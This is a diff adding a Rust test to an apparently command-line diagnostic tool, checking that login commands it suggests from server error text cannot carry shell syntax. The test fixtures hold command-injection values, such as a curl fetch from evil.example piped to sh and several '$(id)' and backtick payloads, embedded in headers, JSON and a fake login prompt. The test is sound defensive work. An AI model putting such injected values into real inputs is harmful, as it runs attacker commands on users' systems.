@@ -42,6 +42,35 @@ fn an_error_is_explained_without_any_vault() {
     assert_eq!(finding["steps"][0]["only_if"], "mfa_off");
 }
 
+/// What is printed to be run holds nothing of the text that a shell would read.
+#[test]
+fn a_hostile_text_gives_no_hostile_command() {
+    let block = |parameters: &str| DENIED.replace(r#"{"amr":["mfa"]}"#, parameters);
+    let texts = [
+        block(r#"{"amr":["sso:a';curl${IFS}evil.example|sh;'"]}"#),
+        r#"Parameters: {"amr":["mfa","sso:`id`","sso:$(id)","sso:&&id","a;b"]}"#.to_owned(),
+        "www-authenticate: Bearer error=\"insufficient_user_authentication\", amr=\"sso:';id;' sso:acme\", max_age=\"300\"".to_owned(),
+        r#"{"error":"insufficient_user_authentication","amr":["sso:';id;'"],"max_age":"300;id"}"#.to_owned(),
+        "Single sign-on (SSO) is required.\n\nPlease log in by running:\n    upsun login --method 'sso:$(id)|sh'".to_owned(),
+    ];
+    for text in texts {
+        let found = fob(&["doctor", "--offline", "--json"], &text)
+            .ends(0)
+            .json();
+        let findings = found["findings"].as_array().expect("findings");
+        let commands: Vec<&str> = findings
+            .iter()
+            .flat_map(|finding| finding["steps"].as_array().expect("steps"))
+            .filter_map(|step| step["command"].as_str())
+            .collect();
+        assert!(!commands.is_empty(), "{text}: {found}");
+        for command in commands {
+            let plain = |c: char| c.is_ascii_alphanumeric() || " -:*_.,@".contains(c);
+            assert!(command.chars().all(plain), "{text}: {command}");
+        }
+    }
+}
+
 #[test]
 fn what_is_not_known_is_said() {
     let ran = fob(&["doctor"], "Everything up-to-date\n").ends(1);
